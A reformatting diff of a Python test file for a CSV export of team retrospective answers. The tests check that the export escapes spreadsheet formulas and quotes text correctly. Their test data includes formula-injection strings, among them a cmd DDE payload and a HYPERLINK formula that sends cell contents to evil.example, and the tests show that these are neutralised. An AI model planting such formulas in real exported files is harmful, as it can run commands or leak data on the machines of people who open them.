@@ -34,18 +34,21 @@ def summary_of(runs, today=dt.date(2026, 4, 10)):
 HOSTILE = 'She said "never" again,\nthen hung up; cost: 3,50 €'
 
 
-@pytest.mark.parametrize("typed, cell", [
-    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
-    ("+1+1", "'+1+1"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("  =1+1", "'  =1+1"),  # spaces first
-    ("\t=1+1", "'\t=1+1"),
-    ("＝1+1", "'＝1+1"),  # full-width, read as = by some spreadsheets
-    ("a = b", "a = b"),
-    ("", ""),
-    ("Call - maybe", "Call - maybe"),
-])
+@pytest.mark.parametrize(
+    "typed, cell",
+    [
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("  =1+1", "'  =1+1"),  # spaces first
+        ("\t=1+1", "'\t=1+1"),
+        ("＝1+1", "'＝1+1"),  # full-width, read as = by some spreadsheets
+        ("a = b", "a = b"),
+        ("", ""),
+        ("Call - maybe", "Call - maybe"),
+    ],
+)
 def test_spreadsheet_safe(typed, cell):
     assert spreadsheet_safe(typed) == cell
 
@@ -58,8 +61,11 @@ def test_one_row_per_answer_read_back_with_the_csv_module():
     assert len(rows) == 3 + 3 + 4  # every answer with a value
     last = rows[-4:]
     assert [(r["item"], r["kind"], r["value"], r["band"]) for r in last] == [
-        ("client-contacted", "traffic-light", "red", "red"), ("team-mood", "scale", "1", "red"),
-        ("design-source", "choice", "theirs", "amber"), ("advice", "text", "Say no earlier.", "")]
+        ("client-contacted", "traffic-light", "red", "red"),
+        ("team-mood", "scale", "1", "red"),
+        ("design-source", "choice", "theirs", "amber"),
+        ("advice", "text", "Say no earlier.", ""),
+    ]
     contact = last[0]
     assert contact["title"] == "Talked to the client" and contact["sprint"] == "2026-S3"
     assert contact["note"] == 'Only "status" mails' and contact["author"] == "Ana <ana@example.com>"
@@ -70,10 +76,16 @@ def test_one_row_per_answer_read_back_with_the_csv_module():
 def test_a_hostile_note_comes_back_whole_and_inert():
     """Quotes, commas, line breaks and formulas in what people typed: RFC 4180 quoting keeps the
     text whole, and a leading apostrophe keeps a spreadsheet from running it."""
-    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
-    runs = [run(1, 1, "Ana", Answer("client-contacted", "red", note=HOSTILE,
-                                    action=Action(formula, "@ana", dt.date(2026, 3, 20))),
-                Answer("advice", "-1 for us\r\n=2+2"))]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    runs = [
+        run(
+            1,
+            1,
+            "Ana",
+            Answer("client-contacted", "red", note=HOSTILE, action=Action(formula, "@ana", dt.date(2026, 3, 20))),
+            Answer("advice", "-1 for us\r\n=2+2"),
+        )
+    ]
     runs[0] = dataclasses.replace(runs[0], author="=cmd|' /C calc'!A0 <x@example.com>", sprint="+Sprint 1")
     text = answers_csv(summary_of(runs, today=dt.date(2026, 3, 10)), runs)
     contact, advice = read_back(text)
@@ -87,19 +99,29 @@ def test_a_hostile_note_comes_back_whole_and_inert():
 
 
 def test_a_corrected_answer_names_its_correction():
-    original = run(1, 1, "Ana", Answer("client-contacted", "red", action=Action("Call", "Ana", dt.date(2026, 3, 20))),
-                   Answer("team-mood", 2))
-    fixed = dataclasses.replace(original, id="20260304T090000Z-build-ana-00000f", corrects=original.id,
-                                correction_note="Mixed up the two items.",
-                                started=dt.datetime(2026, 3, 4, 9, tzinfo=UTC), finished=dt.datetime(2026, 3, 4, 9, 5, tzinfo=UTC),
-                                answers=[Answer("client-contacted", "green"), Answer("team-mood", 2)])
+    original = run(
+        1, 1, "Ana", Answer("client-contacted", "red", action=Action("Call", "Ana", dt.date(2026, 3, 20))), Answer("team-mood", 2)
+    )
+    fixed = dataclasses.replace(
+        original,
+        id="20260304T090000Z-build-ana-00000f",
+        corrects=original.id,
+        correction_note="Mixed up the two items.",
+        started=dt.datetime(2026, 3, 4, 9, tzinfo=UTC),
+        finished=dt.datetime(2026, 3, 4, 9, 5, tzinfo=UTC),
+        answers=[Answer("client-contacted", "green"), Answer("team-mood", 2)],
+    )
     summary = summary_of([original, fixed])
     rows = read_back(answers_csv(summary, summary.runs))
     contact, mood = rows
     # The run the answers were given in; the correction that changed one of them, when and why.
     assert contact["run"] == mood["run"] == original.id and contact["date"] == "2026-03-02"
     assert (contact["value"], contact["corrected_by"], contact["corrected_on"], contact["correction_note"]) == (
-        "green", fixed.id, "2026-03-04", "Mixed up the two items.")
+        "green",
+        fixed.id,
+        "2026-03-04",
+        "Mixed up the two items.",
+    )
     assert contact["action_what"] == ""  # the correction has no action any more
     assert (mood["value"], mood["corrected_by"], mood["corrected_on"]) == ("2", "", "")
 
@@ -110,8 +132,11 @@ def test_only_the_asked_items_rows_and_a_run_from_the_future_is_marked():
     assert ahead in summary.future_runs
     rows = answer_rows(summary, [ahead, *reversed(summary.runs)], item="client-contacted")
     assert [(r[0], r[8], r[-1]) for r in rows] == [
-        (ahead.id, "green", "true"), (story_runs()[2].id, "red", "false"), (story_runs()[1].id, "amber", "false"),
-        (story_runs()[0].id, "green", "false")]
+        (ahead.id, "green", "true"),
+        (story_runs()[2].id, "red", "false"),
+        (story_runs()[1].id, "amber", "false"),
+        (story_runs()[0].id, "green", "false"),
+    ]
 
 
 def test_the_header_stays_english_in_german():
